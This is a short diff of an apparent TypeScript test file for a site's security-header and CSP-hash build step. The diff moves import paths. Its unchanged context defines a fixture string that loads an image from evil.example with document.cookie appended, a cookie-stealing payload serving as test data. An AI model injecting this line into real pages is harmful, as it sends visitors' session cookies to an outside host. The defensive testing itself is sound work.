@@ -6,11 +6,11 @@
 import fs from "node:fs";
 import os from "node:os";
 import path from "node:path";
-import { cspHash } from "../../src/build/inline-scripts";
-import { toNginxInclude } from "../../src/build/nginx-headers";
-import { formOrigin, siteHeaders } from "../../src/build/security-headers";
-import { findPages } from "../../src/build/site-files";
-import { writeSecurityHeaders } from "../../src/build/write-security-headers";
+import { cspHash } from "../../plugins/post-build/inline-scripts";
+import { toNginxInclude } from "../../plugins/post-build/nginx-headers";
+import { formOrigin, siteHeaders } from "../../plugins/post-build/security-headers";
+import { findPages } from "../../plugins/post-build/site-files";
+import { writeSecurityHeaders } from "../../plugins/post-build/write-security-headers";
 
 const loader = (pagePath: string) => `/*<![CDATA[*/window.pagePath="${pagePath}";/*]]>*/`;
 const editorScript = "new Image().src='https://evil.example/?'+document.cookie";
